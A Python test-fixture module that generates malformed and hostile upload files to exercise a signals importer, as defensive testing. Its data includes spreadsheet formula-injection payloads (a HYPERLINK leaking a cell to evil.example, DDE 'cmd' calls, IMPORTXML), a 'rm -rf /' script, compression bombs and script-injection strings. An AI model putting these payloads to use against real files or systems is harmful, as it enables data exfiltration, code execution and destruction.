"""Files that nobody should have to think about at two in the morning: wrong, broken, or made to do harm.

Always the same ones. None has a single row that can be shared.
"""

import bz2
import gzip
import io
import json
import lzma
import random
import zipfile
from collections.abc import Iterator, Mapping

from signals.kinds import OFFERED
from signals.proposals import COLUMNS, OF_AN_EXPORT
from tests.signals.importing import SAID

Case = tuple[str, bytes]
FINE = "kind,value\nemail,account.4e07408562@example.org\n"
ACCENTS = "kind,value,outward_note\nemail,account.4e07408562@example.org,déjà vu – naïve\n"
EASTERN = "kind,value,outward_note\nemail,account.4e07408562@example.org,合図と灯台\n"
CYRILLIC = "kind,value,outward_note\nemail,account.4e07408562@example.org,маяк\n"
FORMULAS = (
    '=HYPERLINK("https://evil.example/?leak="&A1,"open")',
    "=cmd|' /C calc'!A0",
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML("https://evil.example","//a")',
)
CONTROLS = ("\x01", "\x07", "\x08", "\x0b", "\x1b[31m", "\x7f", "\x85", "\x9f")


def cases() -> Mapping[str, bytes]:
    """By a name that says what is wrong."""
    found: dict[str, bytes] = {}
    for group in (encodings, other_things, emptiness, headers, quotes, endless, formulas, cells, values, json_lines):
        for name, content in group():
            assert name not in found
            found[name] = content
    return found


def encodings() -> Iterator[Case]:
    for code in ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-le", "latin-1", "cp1252", "mac-roman", "cp037"):
        accents = ACCENTS if code not in ("latin-1", "cp037") else ACCENTS.replace("–", "-")
        yield f"CSV in {code}", accents.encode(code)
        yield f"JSON in {code}", json.dumps({"value": "é"}, ensure_ascii=False).encode(code)
    for code, text in (("shift_jis", EASTERN), ("euc-jp", EASTERN), ("gb18030", EASTERN), ("koi8-r", CYRILLIC)):
        yield f"CSV in {code}", text.encode(code)
    yield "half of a character at the end", ACCENTS.encode()[:-1] + b"\xe2\x80"
    yield "overlong UTF-8", FINE.encode() + b"email,\xc0\xaf@example.org\n"
    yield "UTF-8 twice marked", b"\xef\xbb\xbf" * 2 + FINE.encode()
    yield "surrogates in UTF-8", FINE.encode() + b"email,\xed\xa0\x80@example.org\n"


def other_things() -> Iterator[Case]:
    sheet = io.BytesIO()
    with zipfile.ZipFile(sheet, "w") as archive:
        archive.writestr("xl/worksheets/sheet1.xml", "<worksheet/>")
    bomb = b"\x00" * 5_000_000
    yield "a workbook called CSV", sheet.getvalue()
    yield "an old workbook", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
    yield "a bomb in gzip", gzip.compress(bomb)
    yield "a bomb in gzip in gzip", gzip.compress(gzip.compress(bomb))
    yield "a bomb in bzip2", bz2.compress(bomb)
    yield "a bomb in xz", lzma.compress(bomb)
    yield "a CSV file in gzip", gzip.compress(FINE.encode())
    begins = {
        "7z": b"7z\xbc\xaf\x27\x1c", "rar": b"Rar!\x1a\x07", "zstd": b"\x28\xb5\x2f\xfd", "pdf": b"%PDF-1.7\n",
        "png": b"\x89PNG\r\n\x1a\n", "jpeg": b"\xff\xd8\xff\xe0", "gif": b"GIF89a", "webp": b"RIFF\x00\x00\x00\x00WEBP",
        "a program": b"\x7fELF\x02\x01\x01", "a program of Windows": b"MZ\x90\x00",
    }  # fmt: skip
    for name, begin in begins.items():
        yield f"a file of {name}", begin + bytes(64) + b"value,kind\n"
    yield "a web page", b"<!doctype html><title>Sign in</title>"
    yield "XML", b'<?xml version="1.0"?><rows/>'
    yield "a script", b"#!/bin/sh\nrm -rf /\n"
    yield "a letter", b"Dear colleague,\nplease find the list attached.\n"
    yield "rich text", rb"{\rtf1\ansi value}"
    for seed in range(10):
        yield f"noise {seed}", random.Random(seed).randbytes(700)


def emptiness() -> Iterator[Case]:
    blanks = {"nothing": "", "spaces": "   ", "lines": "\n\r\n\r\n", "tabs": "\t\t\n\t", "a mark": "\ufeff"}
    for name, text in blanks.items():
        yield f"only {name}", text.encode()
    yield "only a header", b"kind,value\n"
    yield "only a header, no line end", b"kind,value"
    yield "a header and blanks", b"kind,value\n\n  \n,\n , \n"
    yield "only zeros", bytes(5_000)
    yield "a zero in the header", b"kind,val\x00ue\nemail,a@example.org\n"
    yield "a zero in a value", b"kind,value\nemail,a\x00@example.org\n" + b"x" * 99
    yield "a zero in the last row", FINE.encode() * 2 + b"\x00"
    yield "zeros between rows", FINE.encode() + b"\x00\x00\n" + b"email,b@example.org\n"


def headers() -> Iterator[Case]:
    for column in (*COLUMNS, *OF_AN_EXPORT):
        yield f"{column} twice", f"value,{column},{column}\na@example.org,x,x\n".encode()
    yield "value twice in two spellings", b"kind,value, VALUE \nemail,a@example.org,b@example.org\n"
    for name, line in {
        "no header": "email,a@example.org",
        "a title first": "Signals of March",
        "sep first": "sep=;",
        "bars": "kind|value",
        "spaces": "kind value",
        "another word": "kind,Value of it",
        "other language": "genre,valeur",
        "value misspelt": "kind,valeu",
        "value quoted within": 'kind,"val"ue',
        "an unclosed quotation mark": 'kind,"value',
    }.items():
        yield f"header: {name}", f"{line}\nemail,a@example.org\n".encode()
    for name, line in {
        "unknown": "kind,value,password",
        "without a name": "kind,value,",
        "first without a name": ",kind,value",
        "a formula": "kind,value,=1+1",
        "a script": "kind,value,<script>alert(1)</script>",
        "a value": "kind,value,account.4e07408562@example.org",
        "very many": "value," + ",".join(f"c{number}" for number in range(900)),
    }.items():
        yield f"column: {name}", f"{line}\nemail,a@example.org,x\n".encode()


def quotes() -> Iterator[Case]:
    yield "never closed, first row", b'kind,value\nemail,"a@example.org\n'
    yield "never closed, then rows", b'kind,value\nemail,"a@example.org\n' + b"email,b@example.org\n" * 50
    yield "never closed, then many rows", b'kind,value\nemail,"a@example.org\n' + b"email,b@example.org\n" * 5_000
    yield "never closed, last row", FINE.encode() + b'email,"'
    yield "text behind the closing one", b'kind,value\nemail,"a"@example.org\n'
    yield "closed too early", b'kind,value,outward_note\nemail,a@example.org,"said "now" to it"\n'
    yield "single ones around JSON", b"{'kind': 'email', 'value': 'a@example.org'}\n"
    yield "typographic ones", "kind,value\nemail,“a@example.org”\n".encode()


def endless() -> Iterator[Case]:
    yield "a long line", b"kind,value\nemail," + b"a" * 1_000_000
    yield "a long header", b"value" + b"," * 1_000_000
    yield "a long line without a header", b"a" * 1_000_000
    yield "many columns in a row", b"kind,value\n" + b"," * 15_000 + b"\n"
    yield "a quoted text of many lines", b'kind,value\nemail,"' + b"a\n" * 30_000 + b'"\n'
    yield "a long JSON line", b'{"value": "' + b"a" * 1_000_000 + b'"}'
    yield "deep JSON", b'{"value": ' + b"[" * 9_000 + b"]" * 9_000 + b"}"


def formulas() -> Iterator[Case]:
    for number, formula in enumerate(FORMULAS):
        quoted = '"' + formula.replace('"', '""') + '"'
        for column in ("kind", "reference", "clause", "outward_note"):
            content = f"value,{column}\na@example.org,{quoted}\n"
            yield f"formula {number} in {column}", content.encode()
        for kind in ("email", "keyword", "url", "username"):
            yield f"formula {number} as {kind}", f"kind,value,service\n{kind},{quoted},kestrel\n".encode()


def cells() -> Iterator[Case]:
    """One cell that cannot be right, beside a value that is."""
    wrong = {
        "harm": ("bad things", "csam"), "review_method": ("looked",), "origin": ("police", "court order"),
        "confidence": ("101 %",), "ai": ("maybe",), "real_child": ("maybe",), "account_holder": ("12 years old",),
        "behaviours": ("poses;nonsense",), "not_to_regions": ("france",), "owner_named": ("perhaps",),
        "danger": ("yes", "perhaps"), "clause": ("x" * 121,), "evidence_seen_by": ("x" * 81,),
        "meaning": ("x" * 281,), "outward_note": ("x" * 281,), "inward_note": ("x" * 501,), "reference": ("x" * 201,),
        "first_seen_on": ("02/03/2026", "2026-02-30", "yesterday", "99999999999"), "last_seen_on": ("2999-01-01",),
        "expires_on": ("2020-01-01", "2099-01-01", "2026-W10-1", "٢٠٢٦-٠٣-٠٢"), "kind": ("video", "telephone", "*"),
        "quality": ("ninety", "1.5", "٩٩"),
    }  # fmt: skip
    assert set(wrong) <= set(COLUMNS)
    for column, texts in wrong.items():
        for text in texts:
            row = {"kind": "email", "value": "account.4e07408562@example.org", column: text}
            yield f"{column}: {text[:12]}", f"{','.join(row)}\n{','.join(row.values())}\n".encode()
    yield (
        "seen last before first",
        b"kind,value,first_seen_on,last_seen_on\nemail,a@example.org,2026-02-02,2026-02-01\n",
    )
    yield "more cells than columns", b"kind,value\nemail,a@example.org,and,more\n"
    for number, control in enumerate(CONTROLS):
        yield f"control character {number}", f"kind,value,clause\nemail,a@example.org,x{control}y\n".encode()


def values() -> Iterator[Case]:
    for kind in sorted(OFFERED):
        for name, text in {"a bracket": "<", "nothing": " ", "very long": "z" * 15_000, "bidi": "\u202e\u2066"}.items():
            yield f"{kind}: {name}", f"kind,value\n{kind},{text}\n".encode()
    for text in ("a@b@c", "Ada <a@example.org>", "postmaster@example.org", "javascript:alert(1)", "http://localhost/"):
        named = "email" if "@" in text else "url"
        yield f"{named}: {text}", f"kind,value\n{named},{text}\n".encode()


def json_lines() -> Iterator[Case]:
    fine = {"kind": "email", "value": "account.4e07408562@example.org"}
    lines = {
        "a list": "[1]", "a list of objects": json.dumps([fine]), "a line cut short": json.dumps(fine)[:-5],
        "a comma behind": json.dumps(fine) + ",",
        "a name twice": '{"value": "a@example.org", "value": "b@example.org"}',
        "an unknown name": json.dumps(fine | {"password": "x"}), "an object as value": json.dumps(fine | {"value": {}}),
        "not a number": '{"kind": "email", "value": NaN}', "infinite": '{"kind": "email", "value": 1e999}',
        "a huge number": '{"kind": "email", "value": 1' + "0" * 9_000 + "}", "half a character": '{"value": "\\ud800"}',
        "a zero": '{"kind": "email", "value": "a\\u0000@example.org"}', "no value": '{"kind": "email"}',
        "nothing": "{}",
        "null": '{"kind": "email", "value": null}', "two objects": json.dumps(fine) * 2, "a fraction": '{"value": 1.5}',
        "a list of numbers": json.dumps(fine | {"behaviours": [1]}), "in lines": json.dumps(fine, indent=2),
        "a wrong harm": json.dumps(SAID | fine | {"harm": "bad"}), "a comment": '{"value": "a@example.org"} // ours',
    }  # fmt: skip
    for name, line in lines.items():
        yield f"JSON: {name}", line.encode()
